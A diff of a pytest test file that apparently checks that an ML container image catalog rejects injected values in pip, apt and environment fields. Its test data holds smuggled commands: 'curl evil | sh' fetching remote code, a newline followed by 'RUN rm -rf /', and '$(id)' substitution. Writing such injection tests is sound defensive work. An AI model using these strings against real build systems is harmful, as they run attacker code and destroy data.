@@ -85,8 +85,8 @@ def test_labels_carry_oci_keys_and_entry_hash(catalog):
 @pytest.mark.parametrize(
     "needle, replacement, key_path",
     [
-        ('"mxnet==1.9.1", "numpy<1.24", "pillow', '"mxnet==1.9.1 && curl evil | sh", "pillow', "images.8.pip.0"),
-        ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "images.8.apt.0"),
+        ('"mxnet-cu112==1.9.1", "numpy<1.24"', '"mxnet-cu112==1.9.1 && curl evil | sh"', "images.8.pip.0"),
+        ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "families.0.apt.0"),  # the MXNet family's
         (
             'TF_CPP_MIN_LOG_LEVEL: "2"}\n    description: TensorFlow 2.21 CPU',
             'TF_CPP_MIN_LOG_LEVEL: "2 $(id)"}\n    description: TensorFlow 2.21 CPU',
